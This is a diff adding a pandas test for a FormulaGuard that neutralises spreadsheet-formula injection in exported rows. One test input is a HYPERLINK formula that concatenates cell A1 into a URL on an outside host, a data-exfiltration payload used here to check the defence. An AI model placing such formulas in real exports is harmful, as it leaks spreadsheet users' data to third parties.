@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import pandas as pd
 
+from dotdyn_pipeline.defs.audience.formulas import FormulaGuard
 from dotdyn_pipeline.defs.audience.load import import_rows, plan_book
 from dotdyn_pipeline.state.mirror import BOOK_MEMBER_COLUMNS
 
@@ -65,3 +66,20 @@ def test_import_rows_blank_missing_values_of_any_type_across_slices():
                     {"Email": "b@example.com", "CITY": "", "SCORE": "", "KIDS": ""},
                     {"Email": "c@example.com", "CITY": "York", "SCORE": 3.0, "KIDS": 0}]
     pd.testing.assert_frame_equal(frame, before)  # the frame's own columns are not blanked
+
+
+def test_import_rows_send_guarded_text_that_begins_like_a_formula_behind_a_quote_and_count_it():
+    notes = ['=HYPERLINK("https://example.net/?"&A1,"x")', "+1+1", "@SUM(1)", "-2", "\tx", "\rx", "\nx",
+             "a=b", "'=already", None]
+    frame = pd.DataFrame({"email": [f"p{i}@example.com" for i in range(len(notes))],
+                          "NOTE": pd.Series(notes, dtype="string"),
+                          "SCORE": pd.Series(["-5"] * len(notes), dtype="string")})
+    before = frame.copy()
+    guard = FormulaGuard(frozenset({"NOTE"}))  # SCORE is Numeric: not guarded
+    rows = list(import_rows(frame, ["NOTE", "SCORE"], guard, slice_rows=4))
+    assert [row["NOTE"] for row in rows] == [f"'{note}" for note in notes[:7]] + ["a=b", "'=already", ""]
+    assert {row["SCORE"] for row in rows} == {"-5"}
+    assert guard.neutralised == 7
+    pd.testing.assert_frame_equal(frame, before)  # the frame's own values are not changed
+    unguarded = list(import_rows(frame, ["NOTE"], FormulaGuard(frozenset())))
+    assert [row["NOTE"] for row in unguarded] == [*notes[:-1], ""], "protection off: sent as they are"
